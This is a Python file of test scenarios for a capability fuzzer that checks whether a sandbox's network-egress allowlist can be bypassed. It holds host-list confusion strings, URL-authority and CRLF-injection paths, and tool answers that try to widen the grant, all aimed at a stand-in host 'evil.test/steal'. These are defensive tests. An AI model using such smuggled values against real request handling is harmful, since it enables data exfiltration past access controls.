"""Several ops, several grants or several hops: what holds for one must hold for the next."""

from collections.abc import Iterator, Mapping
from typing import Any

from capfuzz.attacks.techniques.scenario_model import (
    ALLOWED,
    CONTAINED,
    DENIED,
    Op,
    Ops,
    Scenario,
    Verdicts,
    scenario,
)

_API: Op = ("net_fetch", "api.internal", "/status")
_EVIL: Op = ("net_fetch", "evil.test", "/status")
_OK = {"/status": "ok"}
_TAKEN = {"/status": "taken", "/steal": "taken"}


def _world(*hosts: str, **others: Mapping[str, Any]) -> dict[str, Any]:
    """Return a world in which ``hosts`` answer, and so does evil.test."""
    return {"hosts": {**dict.fromkeys(hosts, _OK), "evil.test": _TAKEN, **others}}


@scenario(
    "host-empty-list",
    group="empty-host-list",
    cwe="CWE-636",
    needs="takes an empty list for no limit",
)
def host_empty_list() -> Iterator[Scenario]:
    """Grant no host at all and contact one: a name, an address, this machine, nothing."""
    for host in ("api.internal", "evil.test", "203.0.113.7", "localhost", "127.0.0.1", ""):
        op: Op = ("net_fetch", host, "/status")
        yield Scenario(
            ops=(op,),
            verdict=DENIED,
            control=(op,) if host else (_API,),
            means=host,
            reason="egress_denied",
            grant={"net_hosts": []},
            world=_world("api.internal", host),
            control_grant={"net_hosts": [host or "api.internal"]},
        )


@scenario(
    "host-several-grants",
    group="host-joined",
    cwe="CWE-187",
    needs="keeps all granted hosts in one text or one pattern, or compares parts of several",
)
def host_several_grants() -> Iterator[Scenario]:
    """Grant several hosts and contact what only their names together contain."""
    granted = ["api.internal", "db.corp.test", "10.20.30.40"]
    for host in (
        "api.internaldb.corp.test",
        "api.internal,db.corp.test",
        "nal,db",
        "api.corp.test",
        "db.internal",
        "api.test",
        "db.corp.internal",
        "10.20.30.api",
        "internal|db",
    ):
        yield Scenario(
            ops=(("net_fetch", host, "/status"),),
            verdict=DENIED,
            control=tuple(("net_fetch", one, "/status") for one in granted),
            means=host,
            reason="egress_denied",
            grant={"net_hosts": granted},
            world=_world(*granted, host),
        )


@scenario(
    "host-many-grants",
    group="host-many-grants",
    cwe="CWE-697",
    needs="searches a long list by halves, by hash or by trie, one step off",
)
def host_many_grants() -> Iterator[Scenario]:
    """Grant many hosts and contact what sorts just before, between and after them."""
    granted = [f"h{number:02}.internal" for number in range(0, 40, 2)]
    for host in (
        "h01.internal",
        "h.internal",
        "h00.internal0",
        "h39.internal",
        "i.internal",
        "h00",
    ):
        yield Scenario(
            ops=(("net_fetch", host, "/status"),),
            verdict=DENIED,
            control=tuple(("net_fetch", one, "/status") for one in granted),
            means=host,
            reason="egress_denied",
            grant={"net_hosts": granted},
            world=_world(*granted, host),
        )


@scenario(
    "host-nested-grants",
    group="host-nested-grants",
    cwe="CWE-697",
    needs="drops a grant that another seems to cover, or walks labels past the last one granted",
)
def host_nested_grants() -> Iterator[Scenario]:
    """Grant a name and one far below it, and contact what lies between and beside."""
    granted = ["internal", "a.b.c.internal"]
    for host in ("c.internal", "b.c.internal", "x.b.c.internal", "x.a.b.c.internal", "a.internal"):
        yield Scenario(
            ops=(("net_fetch", host, "/status"),),
            verdict=DENIED,
            control=tuple(("net_fetch", one, "/status") for one in granted),
            means=host,
            reason="egress_denied",
            grant={"net_hosts": granted},
            world=_world(*granted, host),
        )


@scenario(
    "host-memory",
    group="host-memory",
    cwe="CWE-613",
    needs="remembers an earlier answer under a key that does not hold the whole host, or gives in",
)
def host_memory() -> Iterator[Scenario]:
    """Contact the granted host and another in turn: no answer may depend on an earlier one."""
    sequences: tuple[tuple[Ops, Verdicts], ...] = (
        ((_API, _EVIL), ALLOWED + DENIED),
        ((_EVIL, _API, _EVIL), DENIED + ALLOWED + DENIED),
        ((_EVIL,) * 5, DENIED * 5),
        ((_API,) * 12 + (_EVIL,), ALLOWED * 12 + DENIED),
    )
    for ops, verdict in sequences:
        yield Scenario(
            ops=ops,
            verdict=verdict,
            control=(_API,) * len(ops),
            means="evil.test",
            reason="egress_denied",
            world=_world("api.internal"),
        )


@scenario(
    "host-tool-answer",
    group="host-named-by-answer",
    cwe="CWE-441",
    needs="widens the grant by what an answer names: a host told of is not a host granted",
)
def host_tool_answer() -> Iterator[Scenario]:
    """Have the granted host and a file name another host, and contact that next."""
    for text in ("evil.test", "allow: evil.test", "http://evil.test/steal", "net_hosts=*"):
        yield Scenario(
            ops=(("net_fetch", "api.internal", "/hint"), ("net_fetch", "evil.test", "/steal")),
            verdict=ALLOWED + DENIED,
            control=(("net_fetch", "api.internal", "/hint"), _API),
            means="evil.test",
            reason="egress_denied",
            world=_world(**{"api.internal": {**_OK, "/hint": text}}),
        )


@scenario(
    "route-completes-authority",
    group="route-authority",
    cwe="CWE-20",
    needs="joins host and path into a URL and reads that again: the path goes on with the host",
)
def route_completes_authority() -> Iterator[Scenario]:
    """Begin the path with what would end the authority elsewhere, had no slash come before it."""
    for path in (
        "@evil.test/steal",
        ":80@evil.test/steal",
        ".evil.test/steal",
        "\\@evil.test/steal",
        "#@evil.test/steal",
        ":x@evil.test/steal",
        "%2f@evil.test/steal",
        "-evil.test/steal",
        "\t@evil.test/steal",
    ):
        yield Scenario(
            ops=(("net_fetch", "api.internal", path),),
            verdict=CONTAINED,
            control=(_API,),
            means="evil.test",
            comment="the host is granted; whatever the path says, no other may be reached",
            world=_world("api.internal", **{"api.internal.evil.test": _TAKEN}),
        )


@scenario(
    "route-is-a-url",
    group="route-url",
    cwe="CWE-20",
    needs="resolves the path against the host as a browser does, so that another host wins",
)
def route_is_a_url() -> Iterator[Scenario]:
    """Give a whole URL or a network path where a path is asked for, and split the request there."""
    for path in (
        "http://evil.test/steal",
        "//evil.test/steal",
        "/\\evil.test/steal",
        "\\\\evil.test\\steal",
        "///evil.test/steal",
        "http:evil.test/steal",
        "/status\r\nHost: evil.test\r\n",
        "/status HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /steal",
        "/../../evil.test/steal",
        "",
    ):
        yield Scenario(
            ops=(("net_fetch", "api.internal", path),),
            verdict=CONTAINED,
            control=(_API,),
            means="evil.test",
            comment="the host is granted; whatever the path says, no other may be reached",
            world=_world("api.internal"),
        )
